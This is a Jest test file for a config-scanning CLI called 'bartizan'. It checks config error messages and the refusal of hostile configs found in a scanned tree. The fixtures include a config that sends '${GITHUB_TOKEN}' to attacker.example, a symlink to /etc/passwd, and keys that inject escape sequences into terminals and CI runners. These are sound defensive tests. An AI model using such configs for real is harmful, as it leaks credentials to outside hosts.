// Config files: every problem with its line, and what a config found in the tree may not say.

import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { bartizan, EVIL, RULE, scanJson, tree } from './run-cli.ts';

const only = ['--rule', RULE];

function refused(config: string | Buffer, name = 'bartizan.yml'): string {
  const { code, out, err } = bartizan(tree({ [name]: config, '.mcp.json': EVIL }), ['scan', ...only]);
  expect([code, out]).toEqual([2, '']);
  return err;
}

test('every problem at once, in order of line', () => {
  expect(
    refused(`gate:
  fail-on: hihg
  new-ony: true
ignore:
  - rule: a/b
  - reason: fine as it is
    until: someday
  - rule: x/y
    reason: fine as it is
    fingerprint: 12
rules:
  severity: { a/b: hgh }
show: [1]
inclde: x
exclude: "x"
`),
  ).toBe(`bartizan: bartizan.yml has 10 problems
  line 2   gate.fail-on: "hihg" is not one of critical, high, medium, low, none. Did you mean high?
  line 3   gate.new-ony is not known here. Did you mean new-only?
  line 5   ignore[0].reason is missing. An ignore without a reason is not accepted.
  line 6   ignore[1] names no rule, fingerprint or path, so it would ignore everything.
  line 7   ignore[1].until is not a day such as 2027-03-31.
  line 10   ignore[2].fingerprint must be text, not a number.
  line 12   rules.severity.a/b: "hgh" is not one of critical, high, medium, low, info. Did you mean high?
  line 13   show must be a map of keys and values, not a list.
  line 14   inclde is not known here. Did you mean include?
  line 15   exclude must be a list, not text.
Nothing was scanned.
`);
});

describe('a config that is no config', () => {
  test.each([
    ['text', 'just text', 'line 1   the file must be a map of keys and values, not text.'],
    ['two documents', 'a: 1\n---\nb: 1\n', 'line 1   the file must be a map of keys and values, not a list.'],
    ['broken', 'a: [\n b', 'line 2   '],
    ['deep', `include: ${'['.repeat(10_000)}`, 'line 1   Nested deeper than 200 levels'],
    ['a circle', 'include: &a [*a]\n', 'line 1   Aliases nest the document too deeply, or in a circle.'],
    ['binary', Buffer.from([0, 1, 2, 255, 254, 10, 58, 32]), 'line 2   '],
  ])('%s', (_, config, problem) => {
    const err = refused(config);
    expect(err).toMatch(
      /^bartizan: bartizan\.yml has \d+ problems?\n(?: {2}line \d+ {3}.+\n)+Nothing was scanned\.\n$/,
    );
    expect(err).toContain(`\n  ${problem}`);
  });

  test('empty, and only comments', () => {
    for (const config of ['', '# later\n', '\ufeff']) {
      expect(bartizan(tree({ 'bartizan.yml': config, '.mcp.json': EVIL }), ['scan', ...only]).code).toBe(1);
    }
  });

  test('two of them', () => {
    const cwd = tree({ 'bartizan.yml': '', '.github/bartizan.yaml': '' });
    expect(bartizan(cwd, ['scan']).err).toBe(
      'bartizan: there are 2 config files: bartizan.yml, .github/bartizan.yaml\nKeep one of them.\n',
    );
  });

  test('a symlink or a folder by its name is not passed over', () => {
    const linked = tree({ '.mcp.json': EVIL });
    symlinkSync('/etc/passwd', join(linked, 'bartizan.yml'));
    const folder = tree({ '.mcp.json': EVIL });
    mkdirSync(join(folder, 'bartizan.yml'));
    for (const cwd of [linked, folder]) {
      const { code, err } = bartizan(cwd, ['scan']);
      expect(code).toBe(2);
      expect(err).toMatch(/^bartizan: bartizan\.yml was not read: \S/);
    }
  });
});

test('--config that cannot be read', () => {
  const cwd = tree({ 'folder/x': 'x' });
  const err = (path: string) => bartizan(cwd, ['scan', '--config', path]).err;
  expect(err('nope.yml')).toBe(`bartizan: there is no config file nope.yml\nIt was looked for in ${cwd}.\n`);
  expect(err('folder')).toBe('bartizan: cannot read the config file folder: it is a folder\n');
});

describe('a hostile config found in the tree', () => {
  const SECRET = 'ghs_do-not-print-this';
  const config =
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the config's own way to name a variable
    'mcp:\n  servers: [{url: https://attacker.example, headers: {X: "${GITHUB_TOKEN}"}}]\nrules:\n  packs: [./evil.yaml]\nremote: { url: "https://attacker.example", key: "${GITHUB_TOKEN}" }\n';
  const cwd = tree({ 'bartizan.yml': config, 'evil.yaml': 'not: rules', '.mcp.json': EVIL });

  test.each([['text'], ['json'], ['sarif']])('is listed as not honoured, and no secret shows: %s', (format) => {
    const { code, out, err } = bartizan(cwd, ['scan', ...only, '--report', format], { env: { GITHUB_TOKEN: SECRET } });
    expect(code).toBe(1);
    expect(out + err).not.toContain(SECRET);
    for (const [line, key] of [
      [2, 'mcp.servers'],
      [4, 'rules.packs'],
      [5, 'remote'],
    ]) {
      expect((out + err).replace(/\s+/g, ' ')).toContain(
        `bartizan.yml:${line}: ${key} was not honoured: a config found in the scanned tree may not name`,
      );
    }
  });

  test('in JSON they are notices', () => {
    const { report } = scanJson(cwd, only, { env: { GITHUB_TOKEN: SECRET } });
    expect(report.notices.map(({ kind }) => kind)).toEqual(['not-honoured', 'not-honoured', 'not-honoured']);
  });

  test('keys that speak to the terminal or the runner are shown as text', () => {
    const odd = tree({ 'bartizan.yml': '"::error::x\\u001b[2J\\u202e": 1\n"##[error]y": 2\n' });
    const { code, err } = bartizan(odd, ['scan']);
    expect(code).toBe(2);
    expect(err).toContain('\\u{1b}[2J\\u{202e}');
    expect(err).not.toMatch(/^\s*::|##\[/m);
  });
});
